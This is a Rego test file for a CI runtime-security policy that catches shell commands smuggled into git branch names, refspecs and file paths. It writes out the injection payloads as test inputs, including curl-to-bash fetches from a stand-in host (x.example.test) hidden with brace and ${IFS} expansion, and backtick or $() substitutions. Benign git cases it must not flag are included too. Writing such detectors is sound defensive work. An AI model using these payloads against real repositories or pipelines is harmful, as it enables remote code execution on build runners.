package sallyport.policies.command_in_name_test

import data.sallyport.policies.command_in_name

process(arguments) := {
	"executable": sprintf("/usr/bin/%s", [arguments[0]]), "script": "", "arguments": arguments, "executable_sha256": "",
	"executable_in_memory": false, "executable_deleted": false, "working_directory": "/home/runner/work/shop/shop", "uid": 1001, "effective_uid": 1001,
}

run(arguments, ancestry) := {
	"behaviour": {"kind": "exec", "program": arguments[0], "target": sprintf("/usr/bin/%s", [arguments[0]])},
	"process": process(arguments), "ancestry": [process(a) | some a in ancestry], "job": {"event": "push", "repository": "acme/shop", "action": ""},
	"baseline": {"stable": true, "known": true, "program_known": true, "reopened": ""},
}

test_commands_in_names_are_caught if {
	every arguments in [
		["git", "checkout", "--progress", "-B", "$({curl,-sSfL,x.example.test/f}${IFS}|${IFS}bash)"], ["git", "-c", "protocol.version=2", "fetch", "origin", "+refs/heads/a`id`:refs/x"],
		["git", "diff", "--", "docs/$(curl${IFS}x.example.test).md"],
	] {
		count(command_in_name.violation) == 1 with input as run(arguments, [])
	}
}

test_shell_that_runs_such_a_name_is_caught if {
	given := object.union(run(["bash", "-c", "echo {curl,-sSfL,x.example.test}${IFS}|${IFS}bash"], []), {"job": {"event": "pull_request_target"}})
	count(command_in_name.violation) == 1 with input as given
}

test_ordinary_git_is_clean if {
	every arguments in [
		["git", "checkout", "-B", "feature/x(1)"], ["git", "commit", "-m", "use `make` and $(nproc)"], ["git", "-c", "alias.x=!echo $(pwd)", "x"], ["git", "fetch", "origin", "+refs/pull/1/merge:refs/x"],
		["git", "log", "--format=%H $(x) y"], ["git", "config", "core.sshCommand", "$(x)"],
	] {
		count(command_in_name.violation) == 0 with input as run(arguments, [])
	}
}
